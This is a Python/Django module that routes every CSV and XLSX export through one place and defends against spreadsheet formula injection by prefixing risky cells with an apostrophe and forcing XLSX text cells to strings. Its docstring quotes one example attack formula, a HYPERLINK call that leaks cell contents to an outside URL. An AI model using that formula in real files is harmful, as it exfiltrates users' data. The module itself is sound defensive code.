"""The one place CSV and XLSX files are written (every export of every app goes through here).

A cell a citizen typed may start with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return that a spreadsheet
strips before looking): Excel and LibreOffice would run it as a formula (``=HYPERLINK("http://…?leak="&A1,"x")``).
``neutralize`` prefixes such text with an apostrophe, the OWASP "CSV injection" advice: the cell shows the text
as typed and nothing is evaluated. XLSX cells are additionally written as explicit strings, never as formulas.

House rule ``exports-in-one-place`` (scripts/house_rules.sh): ``csv.writer`` and ``openpyxl.Workbook`` appear
nowhere else outside the tests.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Characters XML 1.0 (and so XLSX) cannot hold: openpyxl raises IllegalCharacterError on them.
_XML_ILLEGAL = dict.fromkeys([*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF])


def neutralize(value):
    """A cell value a spreadsheet shows as text: numbers, dates and None pass; text that a spreadsheet would read
    as a formula gets a leading apostrophe."""
    if value is None or isinstance(value, bool | int | float):
        return value
    if not isinstance(value, str):
        if hasattr(value, "isoformat"):
            return value
        value = str(value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [neutralize(v) for v in row]


class _Echo:
    def write(self, value):
        return value


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A streamed UTF-8 CSV (with BOM, so Excel reads the accents) whose every cell is neutralized."""
    writer = csv.writer(_Echo())

    def stream():
        yield "\ufeff"
        yield writer.writerow(safe_row(header))
        for row in rows:
            yield writer.writerow(safe_row(row))

    response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _xlsx_cell(value):
    value = neutralize(value)
    if isinstance(value, str):
        return value.translate(_XML_ILLEGAL)
    return value


def xlsx_bytes(sheet: str, header: Sequence[str], rows: Iterable[Iterable]) -> bytes:
    """An XLSX workbook (write-only, so memory stays flat) whose text cells are strings, never formulas."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet[:31])

    def cells(row):
        out = []
        for value in row:
            value = _xlsx_cell(value)
            cell = WriteOnlyCell(ws, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
            out.append(cell)
        return out

    ws.append(cells(header))
    for row in rows:
        ws.append(cells(row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsx_response(filename: str, sheet: str, header: Sequence[str], rows: Iterable[Iterable]) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(sheet, header, rows), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
